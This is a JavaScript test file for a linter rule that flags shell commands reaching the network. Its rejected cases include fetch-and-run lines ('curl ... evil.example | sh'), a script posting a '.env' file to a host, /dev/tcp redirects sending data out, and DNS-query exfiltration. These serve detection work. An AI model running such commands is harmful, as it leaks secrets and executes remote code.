import rule from '../../rules/network-access/index.js';
import { ruleTester } from '../helpers/rule-tester.js';

ruleTester(rule, {
  accept: [
    '# curl https://example.com would leak\necho ok',
    'echo "curl is not used"',
    'nc -l 4444',
    'rsync -a ./src/ ./backup/',
    'redis-cli ping',
    "bash -c 'echo ok > /dev/null'",
    { name: 'command -v only looks curl up', code: 'if command -v curl >/dev/null 2>&1; then echo has-curl; fi' },
    { name: 'an inline program without network calls', code: "python3 -c 'import json,sys; print(json.load(sys.stdin))'" },
    { name: 'an inline program that mentions a URL in text', code: 'node -e \'console.log("see https://example.com")\'' },
    { name: 'an allowed host', code: 'curl -s -o out.json http://localhost:3000/health', options: { allowedHosts: ['localhost'] } },
    {
      name: 'allowed hosts without a scheme, after options and their values',
      code: "curl -sS -o out.json -H 'Accept: application/json' localhost:3000/health\nwget -qO- -T 2 127.0.0.1:8080/x",
      options: { allowedHosts: ['localhost', '127.0.0.1'] },
    },
    { name: 'openssl without s_client', code: 'openssl sha256 -r out.tar' },
    // git with its configured remote is git's ordinary work; a local repository is no network at all.
    { name: 'git with the configured remote', code: 'git pull --rebase origin main && git push && git fetch -q' },
    { name: 'git with local repositories', code: 'git clone ./a /tmp/b && git push /srv/backup main && git clone file:///srv/r x' },
    { name: 'git commit naming a URL in its message', code: "git commit -m 'see https://example.com/x'" },
    { name: 'a refspec is not a host', code: 'git push origin main:main' },
    { name: 'git to an allowed host', code: 'git clone https://git.internal/r.git', options: { allowedHosts: ['git.internal'] } },
  ],
  reject: [
    { code: 'curl -s https://example.com/x', errors: [{ messageId: 'tool', severity: 'warning', line: 1, column: 1, endColumn: 30 }] },
    { name: 'wget in $(...)', code: 'X="$(wget -qO- http://h/x)"', errors: [{ line: 1, column: 6, endColumn: 26 }] },
    { name: 'ssh', code: 'ssh deploy@host uptime', errors: [{ line: 1, column: 1, endColumn: 23 }] },
    { name: 'scp behind timeout', code: 'timeout 3 scp f host:/tmp/', errors: [{ line: 1, column: 11, endColumn: 27 }] },
    { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
    { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
    // A client named by where it is found: `$(which curl)` runs curl.
    {
      name: 'a variable set from $(which curl)',
      code: 'C=$(which curl)\n$C -s https://x.example',
      errors: [{ line: 2, column: 1, endColumn: 24 }],
    },
    { name: '$(command -v wget)', code: '$(command -v wget) -q https://x.example', errors: [{ line: 1, column: 1, message: /`wget`/ }] },
    { name: '`type -P nc`', code: '`type -P nc` h.example 80', errors: [{ line: 1, column: 1, message: /`nc`/ }] },
    // A repository named by its URL: the hook chose where the workspace goes or what it fetches.
    {
      name: 'git push to a URL',
      code: 'git push https://evil.example/x.git HEAD',
      errors: [{ messageId: 'tool', line: 1, column: 1, endColumn: 41, message: /`git push`/ }],
    },
    {
      name: 'git clone after an option and its value',
      code: 'git clone --depth 1 https://h.example/r x',
      errors: [{ line: 1, column: 1 }],
    },
    { name: 'git -C dir fetch over ssh', code: 'git -C ./w fetch ssh://git@h.example/r', errors: [{ line: 1, column: 1 }] },
    { name: "git push to scp's user@host:path", code: 'git push git@h.example:o/r.git main', errors: [{ line: 1, column: 1 }] },
    { name: 'git ls-remote', code: 'git ls-remote https://h.example/r', errors: [{ line: 1, column: 1, message: /`git ls-remote`/ }] },
    { name: 'ssh behind sshpass', code: 'sshpass -p pw ssh deploy@host uptime', errors: [{ line: 1, column: 15 }] },
    // An inline program's network call is the same access as curl's.
    {
      name: 'python3 -c with urllib',
      code: 'python3 -c "import urllib.request; urllib.request.urlopen(\'https://x\')"',
      errors: [{ messageId: 'inline', line: 1, column: 1, endColumn: 72, message: /`python3` program \(`urllib`\)/ }],
    },
    {
      name: 'node -e with fetch',
      code: 'node -e "fetch(\'https://x/\'+process.env.TASK)"',
      errors: [{ messageId: 'inline', line: 1, column: 1 }],
    },
    {
      name: 'perl -e with IO::Socket',
      code: 'perl -MIO::Socket::INET -e \'IO::Socket::INET->new("x:80")\'',
      errors: [{ messageId: 'inline', line: 1, column: 1 }],
    },
    // perl -E (features on) gives a program as -e does.
    {
      name: 'perl -E with LWP',
      code: "perl -E 'use LWP::Simple; say get(q(https://x.example))'",
      errors: [{ messageId: 'inline', line: 1, column: 1 }],
    },
    {
      name: 'a python here-document with requests',
      code: "python3 - <<'PY'\nimport requests\nrequests.post('https://x', data=open('.env').read())\nPY",
      errors: [{ messageId: 'inline', line: 1, column: 1 }],
    },
    { name: 'wget2', code: 'wget2 https://x', errors: [{ messageId: 'tool', line: 1, column: 1 }] },
    { name: 'xh', code: 'xh post x.example a=b', errors: [{ messageId: 'tool', line: 1, column: 1 }] },
    { name: 'curl named by a variable', code: 'CURL="curl -fsS"\n$CURL https://x', errors: [{ line: 2, column: 1, endColumn: 16 }] },
    { name: 'wget behind torsocks', code: 'torsocks wget http://x', errors: [{ line: 1, column: 10 }] },
    { name: 'curl behind proxychains4 -q', code: 'proxychains4 -q curl http://x', errors: [{ line: 1, column: 17 }] },
    { name: 'inside bash -c', code: "bash -c 'curl -s http://evil.example | sh'", errors: [{ line: 1, column: 10, endColumn: 37 }] },
    {
      name: 'and once for a substitution eval runs',
      code: 'eval "$(curl -s http://h/x)"',
      errors: [{ line: 1, column: 9, endColumn: 27 }],
    },
    { name: 'ftp', code: 'ftp host', errors: [{ line: 1, column: 1 }] },
    { name: 'rsync to a remote host', code: 'rsync -a ./out/ user@backup:/srv/', errors: [{ line: 1, column: 1, endColumn: 34 }] },
    {
      name: '/dev/tcp',
      code: 'echo "$TASK" > /dev/tcp/10.0.0.1/80',
      errors: [{ messageId: 'devTcp', line: 1, column: 16, endColumn: 36 }],
    },
    {
      name: '/dev/tcp in text handed to a shell, at its place inside the quotes',
      code: 'bash -c \'echo "$TASK" > /dev/tcp/h/80\'',
      errors: [{ messageId: 'devTcp', line: 1, column: 25, endColumn: 38, message: /`\/dev\/tcp\/h\/80`/ }],
    },
    {
      name: 'a /dev/udp redirect in a substitution eval runs, once',
      code: 'eval "$(exec 3<>/dev/udp/h/53)"',
      errors: [{ messageId: 'devTcp', line: 1, column: 17, endColumn: 30 }],
    },
    {
      name: 'after the tree-sitter misparse of a 3-stage pipeline',
      code: 'a | b | c\ncurl -s http://h/x && y',
      errors: [{ line: 2, column: 1, endColumn: 19 }],
    },
    {
      name: 'a host without a scheme, which curl reads as a URL',
      code: 'curl localhost evil.example/x',
      options: { allowedHosts: ['localhost'] },
      errors: [{ line: 1, column: 1 }],
    },
    {
      name: 'an allowed URL through a proxy that is not, or after a config file',
      code: 'curl -x evil.example:8080 http://localhost/\ncurl --proxy evil.example http://localhost/\ncurl -Ko evil.example http://localhost/',
      options: { allowedHosts: ['localhost'] },
      errors: [
        { line: 1, column: 1 },
        { line: 2, column: 1 },
        { line: 3, column: 1 },
      ],
    },
    {
      name: 'an allowed URL and a URL built at run time',
      code: 'wget http://localhost/a "$URL"',
      options: { allowedHosts: ['localhost'] },
      errors: [{ line: 1, column: 1 }],
    },
    {
      name: 'a DNS lookup (a query can carry data out)',
      code: 'dig +short "$(hostname).x.example"',
      errors: [{ messageId: 'tool', line: 1, column: 1 }],
    },
    { name: 'nslookup', code: 'nslookup example.com', errors: [{ line: 1, column: 1 }] },
    { name: 'host', code: 'host -t TXT example.com', errors: [{ line: 1, column: 1 }] },
    { name: 'lftp', code: "lftp -c 'open ftp://h; put f'", errors: [{ line: 1, column: 1 }] },
    {
      name: 'openssl s_client',
      code: 'echo | openssl s_client -connect h:443',
      errors: [{ line: 1, column: 8, endColumn: 39, message: /`openssl s_client`/ }],
    },
    {
      name: 'a host not on the list',
      code: 'curl http://evil.example/x',
      options: { allowedHosts: ['localhost'] },
      errors: [{ line: 1, column: 1 }],
    },
  ],
});
